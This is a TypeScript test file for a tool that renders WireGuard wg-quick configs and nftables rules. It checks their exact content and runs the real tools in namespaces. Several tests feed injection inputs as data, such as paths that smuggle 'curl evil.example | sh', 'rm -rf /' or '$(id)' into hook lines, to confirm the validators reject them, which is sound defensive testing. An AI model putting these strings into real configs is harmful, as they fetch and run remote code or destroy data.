/**
 * Rendered wg-quick configs and nftables rules: their exact content for the
 * fixture, and that the real tools accept them: `wg-quick strip` and
 * `wg setconf` (on a wireguard-go interface in a namespace of our own), and
 * `nft -c -f` in a fresh network namespace, and `wg-quick up` / `down` of a
 * generated config in a namespace: PreUp loads the node's table, PostDown
 * removes it, a bad rule file stops the interface. The tool checks are skipped,
 * with the reason printed, where the tools, root or /dev/net/tun are missing.
 */
import t from "tap";
import { execFileSync } from "node:child_process";
import { chmodSync, copyFileSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { compile } from "../../../src/engine.js";
import { MeshTopology, planMesh, type MeshPlan } from "../../../src/runtime/mesh/plan.js";
import { nftTableName, renderNft } from "../../../src/runtime/mesh/render-nft.js";
import { defaultRenderOptions, interfaceName, renderOptionsProblem, renderWgQuick } from "../../../src/runtime/mesh/render-wg.js";
import { writePlan } from "../../../src/runtime/mesh/write-plan.js";
import { MeshLab, netnsSupport, onPath } from "../../support/netns.js";
import { fixtureInventory, keyFor, MESH_POLICY, node, PLAN_TIME } from "../../support/mesh-fixture.js";

const engine = compile(MESH_POLICY, { file: "lab.policy" });
const p = planMesh(engine, fixtureInventory(), { time: PLAN_TIME }) as MeshPlan;
const topo = MeshTopology.of(p);
const opts = defaultRenderOptions(p);
const at = (id: string) => p.nodes.findIndex((n) => n.id === id);
const addr = (id: string) => p.nodes[at(id)]!.address;

t.test("the wg-quick config of the scheduler", async (t) => {
  t.same(opts, { interface: "lab", keyFile: "/etc/wireguard/lab.key", nftFile: "/etc/wireguard/lab.nft" });
  const text = renderWgQuick(p, topo, at("s1"), opts);
  const body = text.split("\n").filter((l) => !l.startsWith("# swarm-policy") && !l.startsWith("# policy version"));
  const peer = (id: string, endpoint?: string) => ["", "[Peer]", `# ${id}`, `PublicKey = ${keyFor(id).publicKey}`, `AllowedIPs = ${addr(id)}/32`, ...(endpoint ? [`Endpoint = ${endpoint}`] : []), "PersistentKeepalive = 25"];
  t.same(body, [
    "[Interface]",
    "Address = 100.64.0.10/10",
    "ListenPort = 51820",
    "PreUp = test %i = lab",
    "PreUp = nft -f /etc/wireguard/lab.nft",
    "PostUp = wg set %i private-key /etc/wireguard/lab.key",
    "PostDown = nft add table inet swarm_policy_lab \\; delete table inet swarm_policy_lab",
    ...peer("d1"),
    ...peer("g1", "198.18.0.13:51820"),
    ...peer("w1", "198.18.0.10:51820"),
    ...peer("w2", "198.18.0.11:51820"),
    "",
  ]);
  t.notMatch(text, /PrivateKey/, "the plan never holds a private key");
});

t.test("every interface name wg-quick allows gets a table of its own", async (t) => {
  // wg-0, wg.0, wg_0, wg=0 and wg+0 once all became swarm_policy_wg_0: `wg-quick down wg-0` deleted wg.0's rules.
  const names = ["wg-0", "wg.0", "wg_0", "wg=0", "wg+0", "wg__0", "wg_x2d0", "wg0", "WG0", "_", "__", "-", "wg_-0", "wg-_0"];
  const tables = names.map(nftTableName);
  t.equal(new Set(tables).size, names.length, tables.join(" "));
  for (const table of tables) t.match(table, /^swarm_policy_[A-Za-z0-9_]+$/, "an nft identifier");
  t.equal(nftTableName("wg0"), "swarm_policy_wg0", "letters and digits as they are");
  t.equal(nftTableName("swarm"), "swarm_policy_swarm");
  // nftTableName and renderNft are exported and check no name: past U+00FF a two-digit escape grew
  // to three or four digits, so U+0100 and U+0010 followed by "0" were both _x100.
  const wide = ["\u0100", "\u00100", "\u1000", "\u0010" + "00", "\u00ff", "\u{1F600}", "\ud83d"];
  const wideTables = wide.map(nftTableName);
  t.equal(new Set(wideTables).size, wide.length, wideTables.join(" "));
  for (const table of wideTables) t.match(table, /^swarm_policy_[A-Za-z0-9_]+$/, "an nft identifier");
});

t.test("the config loads the node's rules: PreUp the file given, PostDown the table the file names", async (t) => {
  // An interface whose name nft cannot take as is: `-` and `.` escaped in the table's name.
  const o = defaultRenderOptions(p, { interface: "wg-prod.1", keyFile: "/srv/wg/k", nftFile: "/srv/wg/rules.nft" });
  t.same(o, { interface: "wg-prod.1", keyFile: "/srv/wg/k", nftFile: "/srv/wg/rules.nft" });
  const conf = renderWgQuick(p, topo, at("w1"), o);
  const table = /^table inet (\w+) \{$/m.exec(renderNft(p, topo, at("w1"), o))![1]!;
  t.equal(table, "swarm_policy_wg_x2dprod_x2e1");
  const hooks = conf.split("\n").filter((l) => /^(Pre|Post)(Up|Down) = /.test(l));
  t.same(hooks, [
    // The rules filter the interface by name: installed under another name, the config refuses to come up.
    "PreUp = test %i = wg-prod.1",
    "PreUp = nft -f /srv/wg/rules.nft",
    "PostUp = wg set %i private-key /srv/wg/k",
    // `add` first: deleting a table that is gone fails, and wg-quick down fails with its PostDown.
    `PostDown = nft add table inet ${table} \\; delete table inet ${table}`,
  ]);
  t.match(conf, /^\[Interface\]\n(?:[^[].*\n)*PreUp = /m, "in [Interface], before the first peer");
  t.equal(defaultRenderOptions(p, { interface: "wg7" }).nftFile, "/etc/wireguard/wg7.nft", "default next to the key file");
  // Omitted by a library caller: the default hook, not none.
  t.match(renderWgQuick(p, topo, at("w1"), { interface: "lab", keyFile: "/k" }), "\nPreUp = nft -f /etc/wireguard/lab.nft\n");
});

t.test("nftFile null: no hook, the rules are the operator's to load", async (t) => {
  const o = defaultRenderOptions(p, { nftFile: null });
  t.equal(o.nftFile, null);
  const conf = renderWgQuick(p, topo, at("s1"), o);
  t.notMatch(conf, /PreUp|PostDown|nft/);
  t.match(conf, "\nPostUp = wg set %i private-key /etc/wireguard/lab.key\n");
});

t.test("AllowedIPs is one host address, never a range", async (t) => {
  for (const n of p.nodes) {
    for (const line of renderWgQuick(p, topo, n.index, opts).split("\n").filter((l) => l.startsWith("AllowedIPs"))) {
      t.match(line, /^AllowedIPs = 100\.\d+\.\d+\.\d+\/32$/);
    }
  }
  const v6 = planMesh(compile('mesh "v6" {\n  network "fd00:5157::/48"\n  connect "a" <-> "b"\n}\n'), [node("n1", ["a"]), node("n2", ["b"])], { time: PLAN_TIME }) as MeshPlan;
  const text = renderWgQuick(v6, MeshTopology.of(v6), 0, defaultRenderOptions(v6));
  t.match(text, /\nAddress = fd00:5157:[0-9a-f:]+\/48\n/);
  t.match(text, /\nAllowedIPs = fd00:5157:[0-9a-f:]+\/128\n/);
  t.notMatch(text, /PersistentKeepalive|ListenPort/, "neither is set by this mesh");
});

t.test("the nftables rules of the scheduler", async (t) => {
  const text = renderNft(p, topo, at("s1"), opts);
  t.match(text, "table inet swarm_policy_lab\ndelete table inet swarm_policy_lab\ntable inet swarm_policy_lab {");
  t.match(text, '\t\tiifname != "lab" accept\n');
  t.match(text, `\tset flow_0 {\n\t\ttype ipv4_addr\n\t\telements = { ${addr("w1")},\n\t\t\t     ${addr("w2")} }\n\t}`);
  t.match(text, "\t\tip saddr @flow_0 tcp dport { 7000, 7001 } accept\n\t\tip saddr @flow_0 udp dport { 7000, 7001 } accept\n");
  t.match(text, `\tset flow_1 {\n\t\ttype ipv4_addr\n\t\telements = { ${addr("g1")} }\n\t}`);
  t.match(text, "\t\tip saddr @flow_1 accept\n");
  t.match(text, "\t\tip saddr @peers icmp type echo-request accept\n");
  t.match(text, "\t\tcounter drop\n\t}\n\tchain forward {");
  // Reached under the flows, never through: new connections from the mesh are not routed on.
  t.match(
    text,
    /\tchain forward {\n\t\ttype filter hook forward priority filter; policy accept;\n\t\tiifname != "lab" accept\n\t\tct state established,related accept\n\t\tcounter drop\n\t}\n}\n$/,
  );
  const worker = renderNft(p, topo, at("w1"), opts);
  t.notMatch(worker, /flow_/, "nothing may open a connection to a worker");
  t.match(worker, "counter drop");
});

t.test("a connect tag with a newline cannot add lines to the rules", async (t) => {
  // A policy string may carry `\n`; an inventory tag anything. The rule's comment must stay one comment.
  const evil = "gateway\n\t\taccept\n#";
  const e = compile(MESH_POLICY.replace('connect "scheduler" <-> "gateway"', `connect "scheduler" <-> ${JSON.stringify(evil)}`), { file: "lab.policy" });
  const inv = fixtureInventory().map((n) => (n.id === "g1" ? { ...n, tags: ["gateway", evil] } : n));
  const q = planMesh(e, inv, { time: PLAN_TIME }) as MeshPlan;
  const text = renderNft(q, MeshTopology.of(q), q.nodes.findIndex((n) => n.id === "s1"), opts);
  t.notMatch(text, /^\t\taccept$/m, "no injected rule");
  t.match(text, '\t\t# "scheduler" <-> "gateway\\n\\t\\taccept\\n#" ("gateway\\n\\t\\taccept\\n#" to "scheduler")\n\t\tip saddr @flow_1 accept\n');
});

t.test("flows from the same sources share one set: overlapping rules do not repeat every address", async (t) => {
  // Nodes carrying several tags under rules such as `"t1" <-> "*"` ... `"t8" <-> "*"`: every flow into a
  // node comes from every peer, and each flow's own set listed them all again (nodes^2 x rules in all).
  const tags = Array.from({ length: 8 }, (_, i) => `t${i}`);
  const rules = tags.map((tag, i) => `  connect "${tag}" <-> "*" ports [${7000 + i}]`).join("\n");
  const e = compile(`mesh "m" {\n  network "100.64.0.0/10"\n${rules}\n}\n`);
  const q = planMesh(e, Array.from({ length: 30 }, (_, i) => node(`n${i}`, tags)), { time: PLAN_TIME }) as MeshPlan;
  const text = renderNft(q, MeshTopology.of(q), 0, defaultRenderOptions(q));
  t.same(text.match(/^\tset flow_\d+ \{$/gm), ["\tset flow_0 {"], "one set for the 16 flows");
  // Each address twice: in the peers set (ping) and in the one flow set.
  t.equal((text.match(/100\.\d+\.\d+\.\d+/g) ?? []).length, 2 * 29 + 1, "the node's own address in the header, each peer twice");
  t.equal((text.match(/ip saddr @flow_0 tcp dport 70\d\d accept/g) ?? []).length, 16, "every flow keeps its rule");
});

t.test("a re-plan that changes nothing for a node renders the same bytes", async (t) => {
  // Config management deploys on a change of bytes, and applying a config restarts the tunnels:
  // planning again an hour later (mesh plan without --time reads the clock) must not touch a file.
  const later = planMesh(engine, fixtureInventory(), { time: PLAN_TIME + 3_600_000 }) as MeshPlan;
  t.not(later.time, p.time);
  const laterTopo = MeshTopology.of(later);
  for (const n of p.nodes) {
    t.equal(renderWgQuick(later, laterTopo, n.index, opts), renderWgQuick(p, topo, n.index, opts), `${n.id}: wg-quick config`);
    t.equal(renderNft(later, laterTopo, n.index, opts), renderNft(p, topo, n.index, opts), `${n.id}: nftables rules`);
  }
});

t.test("interface names and key file paths", async (t) => {
  t.equal(interfaceName("swarm"), "swarm");
  t.equal(interfaceName("prod mesh/eu-west-1!"), "prodmesheu-west");
  t.equal(interfaceName("ünïcødé"), "ncd");
  t.equal(interfaceName("…"), "wg0");
  t.equal(renderOptionsProblem({ interface: "wg-prod", keyFile: "/etc/wireguard/k.key" }), null);
  t.match(renderOptionsProblem({ interface: "a-very-long-interface", keyFile: "/k" }), /must be 1-15/);
  t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/k; rm -rf /" }), /absolute path/);
  t.match(renderOptionsProblem({ interface: "wg0", keyFile: "relative.key" }), /absolute path/);
  t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/etc/../k" }), /absolute path/);
  t.equal(renderOptionsProblem({ interface: "wg0", keyFile: "/k", nftFile: "/etc/wireguard/wg0.nft" }), null);
  t.equal(renderOptionsProblem({ interface: "wg0", keyFile: "/k", nftFile: null }), null);
  for (const bad of ["/etc/wire guard/wg0.nft", "/x.nft; reboot", "x.nft", "", "/etc/../x.nft", "/x.nft#", "/x%i.nft", "/x.nft\nPostUp = id", "/$(id).nft", "/`id`"]) {
    t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/k", nftFile: bad }), /^nft file .* must be an absolute path .*\(it is run by PreUp\)$/, JSON.stringify(bad));
  }
});

t.test("the library refuses options the CLI refuses: PostUp runs the key file path in a shell", async (t) => {
  const evil = { interface: "lab", keyFile: "/k\nPostUp = curl evil.example | sh" };
  t.throws(() => renderWgQuick(p, topo, at("s1"), evil), /absolute path/);
  t.throws(() => renderWgQuick(p, topo, at("s1"), { interface: "../../x", keyFile: "/k" }), /must be 1-15/);
  t.throws(() => renderWgQuick(p, topo, at("s1"), { interface: "lab", keyFile: "/k", nftFile: "/r.nft; curl evil.example | sh" }), /nft file/);
  const dir = mkdtempSync(path.join(os.tmpdir(), "sp-render-opts-"));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  await t.rejects(writePlan(p, dir, { interface: "../../escape", keyFile: "/k" }), /must be 1-15/);
  await t.rejects(writePlan(p, dir, { interface: "lab", keyFile: "/k", nftFile: "/r .nft" }), /nft file/);
  t.same(readdirSync(dir), [], "nothing written");
});

const support = netnsSupport();
const noLab = support.ok ? false : `WireGuard lab unavailable: ${support.reason}`;
if (noLab) t.comment(`skipping the real-tool checks: ${support.reason}`);

t.test("`nft -c -f` accepts every node's rules (fresh namespace)", { skip: noLab }, async (t) => {
  const dir = mkdtempSync(path.join(os.tmpdir(), "sp-nft-"));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  for (const n of p.nodes) {
    const file = path.join(dir, `${n.id}.nft`);
    writeFileSync(file, renderNft(p, topo, n.index, opts));
    const out = execFileSync("unshare", ["--net", "nft", "-c", "-f", file], { stdio: "pipe" });
    t.equal(out.toString(), "", `${n.id}: nft -c accepts it`);
  }
});

t.test("`wg-quick strip` + `wg setconf` accept every node's config", { skip: noLab || (onPath("wg-quick") ? false : "wg-quick is missing") }, async (t) => {
  const lab = await MeshLab.create(["cfg"]);
  t.teardown(() => lab.cleanup());
  await lab.startWireguard("cfg");
  const iface = lab.node("cfg").iface;
  for (const n of p.nodes) {
    const file = path.join(lab.workDir, `${opts.interface}.conf`);
    writeFileSync(file, renderWgQuick(p, topo, n.index, opts), { mode: 0o600 });
    const stripped = execFileSync("wg-quick", ["strip", file], { encoding: "utf8", stdio: "pipe" });
    const strippedFile = path.join(lab.workDir, "stripped.conf");
    writeFileSync(strippedFile, stripped, { mode: 0o600 });
    execFileSync("wg", ["setconf", iface, strippedFile], { stdio: "pipe" });
    const peers = execFileSync("wg", ["show", iface, "allowed-ips"], { encoding: "utf8" })
      .trim()
      .split("\n")
      .map((l) => l.split("\t"));
    const want = topo.peersOf(n.index).map((j) => [p.nodes[j]!.publicKey, `${p.nodes[j]!.address}/32`]);
    t.same(peers.sort(), want.sort(), `${n.id}: the interface has exactly the planned peers and AllowedIPs`);
    t.equal(execFileSync("wg", ["show", iface, "listen-port"], { encoding: "utf8" }).trim(), "51820");
  }
});

t.test("a re-plan applied with `wg syncconf` as docs/mesh.md says keeps the node's private key", { skip: noLab || (onPath("bash") ? false : "bash is missing") }, async (t) => {
  const lab = await MeshLab.create(["cfg"]);
  t.teardown(() => lab.cleanup());
  await lab.startWireguard("cfg");
  const iface = lab.node("cfg").iface;
  const keyFile = path.join(lab.workDir, "s1.key");
  writeFileSync(keyFile, `${keyFor("s1").privateText}\n`, { mode: 0o600 });
  const conf = path.join(lab.workDir, `${opts.interface}.conf`);
  writeFileSync(conf, renderWgQuick(p, topo, at("s1"), opts), { mode: 0o600 });
  await lab.applyWgQuick("cfg", conf, { privateKeyFile: keyFile });
  const wg = (...args: string[]) => execFileSync("wg", ["show", iface, ...args], { encoding: "utf8" }).trim();
  t.equal(wg("public-key"), keyFor("s1").publicKey);

  // w2 leaves the inventory: s1's new config has one peer less.
  const q = planMesh(engine, fixtureInventory().filter((n) => n.id !== "w2"), { time: PLAN_TIME }) as MeshPlan;
  writeFileSync(conf, renderWgQuick(q, MeshTopology.of(q), q.nodes.findIndex((n) => n.id === "s1"), opts), { mode: 0o600 });
  const bash = (script: string) => execFileSync("bash", ["-c", script, "bash", iface, conf, keyFile], { stdio: "pipe" });
  // The trap: the file has no PrivateKey, and syncconf (like setconf) sets the key to none.
  bash('wg syncconf "$1" <(wg-quick strip "$2")');
  t.equal(wg("private-key"), "(none)", "a bare syncconf leaves the interface without a key");
  execFileSync("wg", ["set", iface, "private-key", keyFile]);
  // The documented form: the key file is read into the same configuration.
  bash('wg syncconf "$1" <(wg-quick strip "$2"; printf \'[Interface]\\nPrivateKey = %s\\n\' "$(cat "$3")")');
  t.equal(wg("public-key"), keyFor("s1").publicKey, "the key is kept");
  const want = MeshTopology.of(q).peersOf(q.nodes.findIndex((n) => n.id === "s1")).map((j) => q.nodes[j]!.publicKey);
  t.same(wg("peers").split("\n").sort(), want.sort(), "the peers are the re-plan's: w2 is gone");
  t.equal(wg("listen-port"), "51820");
});

t.test("`wg-quick up` with a generated config loads the node's table, `down` removes it, a bad rule file stops it", { skip: noLab || (onPath("wg-quick") ? false : "wg-quick is missing") }, async (t) => {
  // wg-quick itself, in a namespace of our own: it starts wireguard-go (no kernel module needed), runs
  // the hooks through bash. The plan's interface would be "lab"; lab interfaces need machine-unique
  // names (wireguard-go's sockets share /var/run/wireguard), so the config is rendered for this one.
  const lab = await MeshLab.create(["cfg"]);
  t.teardown(() => lab.cleanup());
  const iface = lab.node("cfg").iface;
  const o = { interface: iface, keyFile: path.join(lab.workDir, "cfg.key"), nftFile: path.join(lab.workDir, "cfg.nft") };
  t.equal(renderOptionsProblem(o), null, `the lab's paths are usable: ${lab.workDir}`);
  const table = nftTableName(iface);
  writeFileSync(o.keyFile, `${keyFor("s1").privateText}\n`, { mode: 0o600 });
  const rules = renderNft(p, topo, at("s1"), o);
  writeFileSync(o.nftFile, rules);
  const conf = path.join(lab.workDir, `${iface}.conf`);
  writeFileSync(conf, renderWgQuick(p, topo, at("s1"), o), { mode: 0o600 });
  const exec = (...argv: string[]) => lab.exec("cfg", argv, { timeoutMs: 20_000 });
  const tables = async () => (await exec("nft", "list", "tables")).stdout.trim();
  const linkExists = async () => (await exec("ip", "link", "show", "dev", iface)).code === 0;

  const up = await exec("wg-quick", "up", conf);
  t.equal(up.code, 0, `wg-quick up: ${up.stderr}`);
  t.ok(up.stderr.indexOf(`[#] nft -f ${o.nftFile}`) >= 0, "PreUp ran");
  t.ok(up.stderr.indexOf(`[#] nft -f ${o.nftFile}`) < up.stderr.indexOf(`[#] ip link add ${iface}`), "before the interface was made");
  const listed = await exec("nft", "list", "table", "inet", table);
  t.equal(listed.code, 0, `the table is loaded: ${listed.stderr}`);
  t.match(listed.stdout, `iifname != "${iface}" accept`);
  t.match(listed.stdout, /tcp dport \{ 7000, 7001 \} accept/, "with the node's port rules");
  t.equal((await exec("wg", "show", iface, "public-key")).stdout.trim(), keyFor("s1").publicKey, "PostUp set the key");

  const down = await exec("wg-quick", "down", conf);
  t.equal(down.code, 0, `wg-quick down: ${down.stderr}`);
  t.equal(await tables(), "", "PostDown removed the table");
  t.notOk(await linkExists());

  // Someone removed the table meanwhile: down still succeeds (a plain `delete table` would fail it).
  t.equal((await exec("wg-quick", "up", conf)).code, 0);
  t.equal((await exec("nft", "delete", "table", "inet", table)).code, 0);
  const downAgain = await exec("wg-quick", "down", conf);
  t.equal(downAgain.code, 0, `wg-quick down with the table gone: ${downAgain.stderr}`);
  t.notOk(await linkExists());

  // Installed under another name (wg-quick names the interface after the file), the rules would filter
  // a name the interface does not have: the config refuses to come up.
  const renamedIface = iface.endsWith("rn") ? `${iface.slice(0, 12)}xy` : `${iface.slice(0, 12)}rn`;
  const renamed = path.join(lab.workDir, `${renamedIface}.conf`);
  copyFileSync(conf, renamed);
  chmodSync(renamed, 0o600);
  const wrongName = await exec("wg-quick", "up", renamed);
  t.not(wrongName.code, 0, "a renamed config: wg-quick up fails");
  t.match(wrongName.stderr, `[#] test ${renamedIface} = ${iface}`);
  t.not((await exec("ip", "link", "show", "dev", renamedIface)).code, 0, "a renamed config: no interface");
  t.equal(await tables(), "", "a renamed config: no table");
  rmSync(renamed);

  // Fail closed: a rule file nft refuses, or none, and there is no interface and no table.
  for (const [name, content] of [["a bad rule file", "this is not nftables\n"], ["no rule file", null]] as const) {
    rmSync(o.nftFile, { force: true });
    if (content !== null) writeFileSync(o.nftFile, content);
    const failed = await exec("wg-quick", "up", conf);
    t.not(failed.code, 0, `${name}: wg-quick up fails`);
    t.notOk(await linkExists(), `${name}: no interface`);
    t.equal(await tables(), "", `${name}: no table`);
  }
});
